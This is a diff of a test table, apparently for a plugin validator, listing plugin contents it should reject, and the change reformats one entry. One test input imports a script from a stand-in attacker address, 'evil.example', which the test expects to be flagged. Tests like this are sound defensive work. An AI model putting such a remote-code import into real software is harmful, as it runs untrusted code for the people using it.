@@ -161,11 +161,7 @@ test.each<[string, Readonly<Record<string, unknown>>, string | RegExp]>([
     'lacks "permissions.queue_watch"',
   ],
   ['an import that is not shared', { 'client.js': `import 'lodash';` }, 'client.js imports "lodash"'],
-  [
-    'a relative import',
-    { 'client.js': `import './more.js';` },
-    'client.js imports "./more.js"',
-  ],
+  ['a relative import', { 'client.js': `import './more.js';` }, 'client.js imports "./more.js"'],
   ['an import by address', { 'client.js': `import('https://evil.example/x.js')` }, 'evil.example'],
   ['Node in the browser', { 'client.js': `import 'node:fs';` }, 'client.js imports "node:fs"'],
   ['a migration without a number', { 'migrations/counters.sql': '' }, 'is no part of a plugin'],
